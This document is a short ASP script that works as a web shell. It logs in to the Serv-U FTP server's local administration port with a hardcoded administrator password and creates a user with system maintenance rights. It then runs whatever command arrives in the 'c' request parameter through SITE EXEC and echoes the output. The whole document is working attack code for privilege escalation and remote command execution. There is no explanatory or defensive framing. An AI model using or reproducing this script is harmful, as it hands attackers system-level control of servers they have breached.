<%
' Logs in to Serv-U's local administration port, adds a domain and a user with system rights,
' then runs a command through SITE EXEC as that user.
Dim u, p, cmd, x
u = "LocalAdministrator"
p = "#l@$ak#.lk;0@P"
cmd = Request("c")
Set x = Server.CreateObject("Microsoft.XMLHTTP")
Sub Say(s)
  x.Open "POST", "http://127.0.0.1:43958/goldsun/upadmin/s1", False, "", ""
  x.Send s
End Sub
Say "User " & u & vbCrLf & "Pass " & p & vbCrLf & "SITE MAINTENANCE" & vbCrLf & _
    "-SETDOMAIN" & vbCrLf & "-Domain=x|0.0.0.0|21|-1|1|0" & vbCrLf & "-TZOEnable=0" & vbCrLf & _
    " TZOKey=" & vbCrLf & "-SETUSERSETUP" & vbCrLf & "-IP=0.0.0.0" & vbCrLf & "-PortNo=21" & vbCrLf & _
    "-User=op" & vbCrLf & "-Password=op" & vbCrLf & "-HomeDir=c:\" & vbCrLf & "-Maintenance=System"
Say "USER op" & vbCrLf & "PASS op" & vbCrLf & "SITE EXEC " & cmd & vbCrLf
Response.Write x.ResponseText
%>
